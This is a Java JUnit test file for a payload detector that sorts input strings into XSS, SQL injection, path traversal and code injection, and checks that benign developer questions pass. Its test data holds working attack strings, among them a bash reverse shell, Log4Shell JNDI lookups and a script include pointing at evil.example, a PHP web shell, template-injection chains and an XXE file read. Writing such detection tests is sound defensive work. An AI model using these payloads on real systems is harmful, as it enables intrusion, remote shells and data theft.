package dev.aidb.policy;

import static dev.aidb.policy.AttackKind.CODE_INJECTION;
import static dev.aidb.policy.AttackKind.PATH_TRAVERSAL;
import static dev.aidb.policy.AttackKind.SQL_INJECTION;
import static dev.aidb.policy.AttackKind.XSS;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PayloadDetectorTest {
  private final PayloadDetector detector = new PayloadDetector();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=confirm(document.domain)>",
        "javascript:alert(document.cookie)",
        "<a href=\"jav&#09;ascript:alert(1)\">x</a>",
        "';alert(1)//",
        "'-prompt(1)-'",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<div style=\"width: expression(alert(1))\">",
        "{{constructor.constructor('alert(1)')()}}",
        "<script src=//evil.example/x.js></script>",
        "laptop <script>alert(1)</script>",
        "What is nginx? <script>alert(1)</script>",
      })
  void findsScripts(String text) {
    assertThat(detector.find(text)).contains(XSS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' OR '1'='1",
        "admin'--",
        "42 OR 1=1",
        "\" or \"\"=\"",
        "'; DROP TABLE users; --",
        "1; DROP TABLE users",
        "1 UNION SELECT username, password FROM users",
        "-1' UNION/**/SELECT/**/1,@@version,3-- -",
        "1 un/**/ion sel/**/ect 1,2,3 --",
        "'+UNION+SELECT+1,2,3--",
        "1 AND SLEEP(5)",
        "'; WAITFOR DELAY '0:0:5'--",
        "' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))--",
        "1' ORDER BY 10--",
        "'||(SELECT password FROM users LIMIT 1)||'",
        "username[$ne]=x&password[$ne]=x",
        "laptop' OR 1=1 --",
      })
  void findsSql(String text) {
    assertThat(detector.find(text)).contains(SQL_INJECTION);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc/passwd",
        "..%252f..%252fetc/passwd",
        "..%c0%af..%c0%afetc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "....//....//etc/passwd",
        "report.php%00.png",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "page=../../../../proc/self/environ",
      })
  void findsPaths(String text) {
    assertThat(detector.find(text)).contains(PATH_TRAVERSAL);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "; cat /etc/passwd",
        "127.0.0.1; whoami",
        "x|id",
        "$(id)",
        "name`id`",
        "%0awhoami",
        ";cat${IFS}/etc/passwd",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "{{7*7}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<?php system($_GET['cmd']); ?>",
        "__import__('os').system('id')",
        "require('child_process').exec('id')",
        "() { :; }; /bin/bash -c \"id\"",
        "O:8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwAC",
        "!!python/object/apply:os.system [\"id\"]",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
      })
  void findsCode(String text) {
    assertThat(detector.find(text)).contains(CODE_INJECTION);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "How do I recover after DROP TABLE users?",
        "imports = [ ../common.nix ];",
        "what does eval( do in Python",
        "escape <script> in Thymeleaf",
        "{ pkgs, ... }: { }",
        "C#",
        "why does ../ not work in #include \"../foo.h\"",
        "O'Brien",
        "SELECT * FROM a WHERE x = 1 OR y = 2 UNION SELECT * FROM b; -- both",
        "ps aux | grep java; ls -la && make",
        "<button onclick=\"save()\">Save</button> does nothing",
        "${{ secrets.TOKEN }} and {{ .Values.image.tag }}",
        "import x from '../../../../common/x'",
        "how does Thymeleaf escape <script>alert(1)</script> in attributes",
        "what does ' OR '1'='1 mean in a login form",
        "why does my WAF block ../../etc/passwd in requests",
        "is log4j 2.17 vulnerable to ${jndi:ldap://x/a} in a header",
        "cat /etc/passwd | cut -d: -f1",
        "",
        "   ",
        "日本語の質問 'は' 何ですか",
      })
  void letsQuestionsPass(String text) {
    assertThat(detector.find(text)).isEmpty();
  }

  @Test
  void aHiddenPayloadIsNoMention() {
    assertThat(detector.find("what does %252e%252e%252f%252e%252e%252fetc/passwd mean in a log"))
        .containsExactly(PATH_TRAVERSAL);
  }

  @Test
  void namesAllKindsInTheirOrder() {
    assertThat(detector.find("; cat /etc/passwd <script>alert(1)</script> ' OR '1'='1"))
        .containsSequence(XSS, SQL_INJECTION);
  }

  @Test
  void nothingHidesBehindManyFindings() {
    String noise = "what does system('id') mean ".repeat(200);

    assertThat(detector.find(noise + ". x <script>alert(1)</script>")).contains(XSS);
  }
}
